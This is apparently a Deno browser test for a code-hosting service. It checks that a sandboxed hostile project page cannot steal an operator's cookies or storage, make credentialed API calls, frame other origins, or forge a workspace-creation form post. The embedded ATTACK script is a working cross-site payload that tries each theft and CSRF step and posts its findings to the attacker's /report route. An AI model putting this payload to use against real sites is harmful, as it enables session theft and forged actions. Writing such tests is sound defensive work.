/**
 * A hostile page of a project, visited by an operator of the service: the real service with an API
 * and a run origin at hosts of their own, in a real browser. What pages of projects can do to each
 * other, `http_pages_slow.ts` looks at more closely.
 *
 * @module
 */

import assert from "node:assert/strict";
import { ControlClient } from "../../control/api/client.ts";
import { listExecutions, showPayload } from "../../control/api/executions.ts";
import { createProject } from "../../control/api/projects.ts";
import { createWorkspace, listWorkspaces } from "../../control/api/workspaces.ts";
import { clientPush } from "../../control/testing/client_push.ts";
import { startService } from "../../control/testing/real_service.ts";
import { isRecord } from "../../runtime/protocol/is_record.ts";
import { tempDir } from "../harness/temp_dir.ts";
import { BROWSER, openBrowser } from "./browser.ts";

/** How long the browser may take, in milliseconds. */
const PATIENCE_MS = 90_000;
const WORKSPACE = "main";
/** Everyone may call the routes. */
const MANIFEST = JSON.stringify({ http: { auth: "public" } });
const AT = (project: string) => `/run/${WORKSPACE}/${project}@development`;

/** A project whose pages hold something of their visitors. */
const SHOP = `import { http } from "aiel";
const html = (body, headers = {}) => ({
  status: 200,
  headers: { "content-type": "text/html; charset=utf-8", ...headers },
  body: "<!doctype html><body>" + body,
});
http.get("/login", () => html(
  '<script>try { localStorage.secret = "of the shop" } catch {} location = "${
  AT("shop")
}/home"</script>',
  { "set-cookie": "session=user; Max-Age=999; HttpOnly; SameSite=None; Path=/" },
));
http.get("/home", (ctx, { headers }) => {
  ctx.log("home", { cookie: headers.cookie ?? null });
  return html('<script>location = "${AT("evil")}/page"</script>');
});
http.get("/me", (_ctx, { headers }) => ({ cookie: headers.cookie ?? null }));
http.post("/act", (_ctx, { headers }) => ({ cookie: headers.cookie ?? null }));
`;

/** What the hostile page tries, and tells of it. */
const ATTACK = (api: string) =>
  `<!doctype html><body><script>
const tried = async (what) => {
  try { return String(await what()); } catch (error) { return "refused: " + error.name; }
};
const loaded = (element) => new Promise((resolve) => {
  element.onload = element.onerror = () => resolve(element);
  document.body.append(element);
});
const opened = async (url) => {
  const other = window.open(url);
  if (other === null) return "not opened";
  await new Promise((resolve) => setTimeout(resolve, 1500));
  return other.document.body.textContent;
};
onload = async () => {
  const include = { credentials: "include" };
  const body = JSON.stringify({ slug: "forged" });
  const said = {
    origin: await tried(() => self.origin),
    cookies: await tried(() => document.cookie),
    storage: await tried(() => localStorage.secret),
    caches: await tried(() => caches.keys()),
    worker: await tried(() => navigator.serviceWorker.register("${
    AT("evil")
  }/worker.js", { scope: "/" })),
    apiRead: await tried(async () => (await fetch("${api}/v1/auth/me", include)).text()),
    apiDocs: await tried(async () => (await fetch("${api}/docs", include)).text()),
    apiHeader: await tried(async () => (await fetch("${api}/v1/auth/me", { headers: { authorization: "Bearer x" } })).status),
    apiPost: await tried(async () => (await fetch("${api}/v1/workspaces", { ...include, method: "POST", mode: "no-cors", body })).type),
    apiFrame: await tried(async () => (await loaded(Object.assign(document.createElement("iframe"), { src: "${api}/docs" }))).contentWindow.document.title),
    apiWindow: await tried(() => opened("${api}/docs")),
    shopRead: await tried(async () => (await fetch("${AT("shop")}/me", include)).text()),
    shopPost: await tried(async () => (await fetch("${
    AT("shop")
  }/act", { ...include, method: "POST", mode: "no-cors" })).type),
    shopFrame: await tried(async () => (await loaded(Object.assign(document.createElement("iframe"), { src: "${
    AT("shop")
  }/me" }))).contentWindow.document.body.textContent),
    shopWindow: await tried(() => opened("${AT("shop")}/me")),
  };
  const form = Object.assign(document.createElement("form"), {
    method: "post", action: "${api}/v1/workspaces", enctype: "text/plain", target: "_blank",
  });
  form.append(Object.assign(document.createElement("input"), { name: '{"slug":"forged","x":"', value: '"}' }));
  document.body.append(form);
  form.submit();
  await fetch("${
    AT("evil")
  }/report", { method: "POST", mode: "no-cors", body: JSON.stringify(said) });
};
</script>`;

/** The hostile project. */
const evil = (api: string) =>
  `import { http } from "aiel";
const PAGE = ${JSON.stringify(ATTACK(api))};
http.get("/page", () => ({
  status: 200,
  headers: {
    "content-type": "text/html; charset=utf-8",
    "content-security-policy": "sandbox allow-same-origin allow-scripts",
    "access-control-allow-origin": "*",
    "service-worker-allowed": "/",
  },
  body: PAGE,
}));
http.get("/worker.js", () => ({
  status: 200,
  headers: { "content-type": "text/javascript", "service-worker-allowed": "/" },
  body: "self.addEventListener('fetch', () => {})",
}));
http.post("/report", () => ({ status: 204, headers: {}, body: null }));
`;

Deno.test("a hostile page does nothing in the name of the operator who visits it", async () => {
  if (BROWSER === undefined) {
    // deno-lint-ignore no-console -- a test that does nothing has to say so
    console.warn("SKIPPED: a hostile page in a browser. There is no Chromium");
    return;
  }
  const [api, run] = [freePort(), freePort()];
  const urls = { api: `http://api.test:${api}`, run: `http://run.test:${run}` };
  using data = tempDir();
  const service = await startService(data.path, {
    AIEL_LISTEN: `127.0.0.1:${api}`,
    AIEL_PUBLIC_URL: urls.api,
    AIEL_RUN_LISTEN: `127.0.0.1:${run}`,
    AIEL_RUN_URL: urls.run,
    AIEL_ISOLATION: "auto",
  });
  const client = new ControlClient({ baseUrl: service.url, token: service.token ?? "" });
  try {
    await client.call(createWorkspace, { body: { slug: WORKSPACE } });
    for (const [slug, code] of [["shop", SHOP], ["evil", evil(urls.api)]] as const) {
      await client.call(createProject, { params: { workspace: WORKSPACE }, body: { slug } });
      const tree = { "entry_point.ts": code, "aiel.json": MANIFEST };
      await clientPush(client, { workspace: WORKSPACE, project: slug }, tree, null);
    }
    const report = await visit(`${urls.run}${AT("shop")}/login`, () => reportOf(client));
    assert.deepEqual(report, {
      origin: "null",
      cookies: "refused: SecurityError",
      storage: "refused: SecurityError",
      caches: "refused: SecurityError",
      worker: "refused: SecurityError",
      apiRead: "refused: TypeError",
      apiDocs: "refused: TypeError",
      apiHeader: "refused: TypeError",
      apiPost: "opaque",
      apiFrame: "refused: SecurityError",
      apiWindow: "refused: SecurityError",
      shopRead: "refused: TypeError",
      shopPost: "opaque",
      shopFrame: "refused: SecurityError",
      shopWindow: "refused: SecurityError",
    });
    // Nothing was made in anyone's name, and no cookie came with what the page asked for.
    const { items } = await client.call(listWorkspaces, {});
    assert.deepEqual(items.map(({ slug }) => slug), [WORKSPACE]);
    const asked = await answersOf(client, "http/POST /act");
    assert.deepEqual(asked, [{ cookie: null }]);
    const seen = await answersOf(client, "http/GET /me");
    assert.ok(seen.length > 0);
    // A window that a user sees has the cookie, and the page that opened it saw nothing of it.
    for (const { cookie } of seen) assert.ok(cookie === null || cookie === "session=user");
  } finally {
    await service.end("SIGTERM");
  }
});

/** What the page told; undefined: nothing yet. */
async function reportOf(client: ControlClient): Promise<unknown> {
  const [payload] = await payloadsOf(client, "evil", "http/POST /report");
  const request = payload?.request;
  const sent = isRecord(request) && isRecord(request["payload"]) && request["payload"]["body"];
  return typeof sent === "string" ? JSON.parse(sent) : undefined;
}

/** What a route of the shop answered. */
async function answersOf(client: ControlClient, name: string): Promise<{ cookie: unknown }[]> {
  const payloads = await payloadsOf(client, "shop", name);
  return payloads.flatMap(({ envelope }) => {
    const result = envelope && "result" in envelope ? envelope.result : undefined;
    const body = isRecord(result) ? result["body"] ?? result : undefined;
    const answer: unknown = typeof body === "string" ? JSON.parse(body) : body;
    return isRecord(answer) ? [{ cookie: answer["cookie"] }] : [];
  });
}

async function payloadsOf(client: ControlClient, project: string, name: string) {
  const params = { workspace: WORKSPACE, project };
  const { items } = await client.call(listExecutions, { params, query: { export: name } });
  return await Promise.all(
    items.filter(({ state }) => state === "succeeded").map(({ id: execution }) =>
      client.call(showPayload, { params: { ...params, execution } })
    ),
  );
}

/** Opens a page in a browser, and waits until something is there. */
async function visit<T>(url: string, wanted: () => Promise<T | undefined>): Promise<T> {
  await using _browser = openBrowser(url, [
    // As over TLS, or the page would have neither caches nor service workers to try.
    `--unsafely-treat-insecure-origin-as-secure=${new URL(url).origin}`,
    ...["--disable-popup-blocking", "--host-resolver-rules=MAP *.test 127.0.0.1"],
  ]);
  for (const until = Date.now() + PATIENCE_MS; Date.now() < until;) {
    const found = await wanted();
    if (found !== undefined) return found;
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
  throw new Error("The page was not done in time");
}

/** A port that nothing listens on: the service has to know its URLs before it listens. */
function freePort(): number {
  using listener = Deno.listen({ hostname: "127.0.0.1", port: 0 });
  return listener.addr.port;
}
